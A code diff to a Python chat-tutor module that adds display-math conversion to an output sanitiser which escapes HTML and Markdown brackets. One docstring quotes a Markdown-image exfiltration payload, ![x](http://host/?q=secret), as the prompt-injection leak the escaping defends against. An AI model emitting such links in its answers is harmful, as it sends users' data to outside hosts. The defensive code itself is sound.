@@ -4,6 +4,7 @@ once per process, and the lock that makes events take turns (one model, one inde
 from __future__ import annotations
 
 import html
+import re
 import threading
 from dataclasses import dataclass
 
@@ -37,6 +38,15 @@ def build_services(settings: Settings, with_llm: bool = True) -> Services:
     return Services(settings, store, embedder, engine, tutor, threading.RLock())
 
 
+_DISPLAY_MATH = re.compile(r"\\\[(.+?)\\\]", re.S)
+
+
+def display_math(text: str) -> str:
+    """`\\[ … \\]` as `$$ … $$`: the chat renders those as display math, while the brackets,
+    once escaped so they can never form a link, would not be."""
+    return _DISPLAY_MATH.sub(lambda m: f"$${m.group(1)}$$", text)
+
+
 def esc(text: str) -> str:
     """Document text for display: chat bubbles render Markdown and source cards are HTML, so
     escape it and it can never become markup."""
@@ -47,4 +57,4 @@ def inert(text: str) -> str:
     """Document or model text for a Markdown view (chat bubbles, quiz cards): HTML-escaped, and
     brackets escaped so `![x](http://host/?q=secret)` or `[a][ref]` can never become an image or
     link that the browser loads — the classic way a note (or a prompt-injected answer) leaks."""
-    return esc(text).replace("[", "\\[").replace("]", "\\]")
+    return esc(display_math(text)).replace("[", "\\[").replace("]", "\\]")
